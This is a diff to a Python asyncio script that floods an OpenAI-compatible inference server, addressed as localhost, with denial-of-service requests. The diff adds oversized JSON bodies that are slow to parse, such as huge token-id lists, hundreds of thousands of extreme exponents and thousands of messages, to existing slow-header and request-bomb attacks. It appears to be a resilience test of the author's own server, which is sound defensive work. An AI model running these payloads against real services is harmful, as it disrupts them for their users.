@@ -32,8 +32,8 @@ async def attack(name: str, host: str, port: int, key: str = "") -> AsyncIterato
         await process.wait()
 
 
-def _head(key: str, *headers: str) -> bytes:
-    lines = ["POST /v1/chat/completions HTTP/1.1", "Host: localhost", "Content-Type: application/json", *headers]
+def _head(key: str, *headers: str, path: str = "/v1/chat/completions") -> bytes:
+    lines = [f"POST {path} HTTP/1.1", "Host: localhost", "Content-Type: application/json", *headers]
     if key:
         lines.append(f"Authorization: Bearer {key}")
     return ("\r\n".join(lines) + "\r\n\r\n").encode()
@@ -62,12 +62,29 @@ def _expecting(key: str) -> bytes:
     return _head(key, *headers) + packed
 
 
+def _long(path: str, body: str) -> Callable[[str], bytes]:
+    def request(key: str) -> bytes:
+        return _head(key, f"Content-Length: {len(body)}", path=path) + body.encode()
+
+    return request
+
+
 ATTACKS: dict[str, Callable[[str], bytes]] = {
     "bomb": _bomb,
     "nested": _nested,
     "chunks": _chunks,
     "expecting": _expecting,
 }
+_MESSAGES = ",".join(['{"role": "user", "content": "b"}'] * 8_000)
+_CHAT = '{"model": "moe2", "messages": [{"role": "user", "content": "a"}], '
+LONG_BODIES: dict[str, Callable[[str], bytes]] = {
+    "ids": _long("/v1/completions", f'{{"model": "moe2", "prompt": {[*range(500_000)]}}}'.replace(", ", ",")),
+    "vectors": _long("/v1/embeddings", f'{{"model": "moe2", "input": {["ab"] * 60_000}}}'.replace("'", '"')),
+    "exponents": _long("/v1/chat/completions", _CHAT + f'"metadata": {{"a": [{",".join(["1.5e300"] * 400_000)}]}}}}'),
+    "digits": _long("/v1/chat/completions", _CHAT + f'"metadata": {{"a": [{",".join([4_000 * "9"] * 1_000)}]}}}}'),
+    "messages": _long("/v1/chat/completions", f'{{"model": "moe2", "messages": [{_MESSAGES}]}}'),
+}
+"""Bodies that take long to parse, each from one connection."""
 IDLE = "idle"
 """Connections that send the beginning of a header, and no more."""
 
@@ -87,9 +104,10 @@ async def _attack(name: str, host: str, port: int, key: str) -> None:
     idle = [await asyncio.open_connection(host, port) for _ in range(N_IDLE if name == IDLE else 0)]
     for _, writer in idle:
         writer.write(b"POST /v1/chat/completions HTTP/1.1\r\nHost: lo")
-    request = ATTACKS[name](key) if name in ATTACKS else b""
+    request = b"" if name == IDLE else (ATTACKS | LONG_BODIES)[name](key)
+    n_connections = 0 if name == IDLE else 1 if name in LONG_BODIES else N_CONNECTIONS
     async with asyncio.TaskGroup() as tasks:
-        for _ in range(N_CONNECTIONS if request else 0):
+        for _ in range(n_connections):
             tasks.create_task(_send_again_and_again(host, port, request))
         await asyncio.sleep(PAUSE_S)
         print("attacking", flush=True)
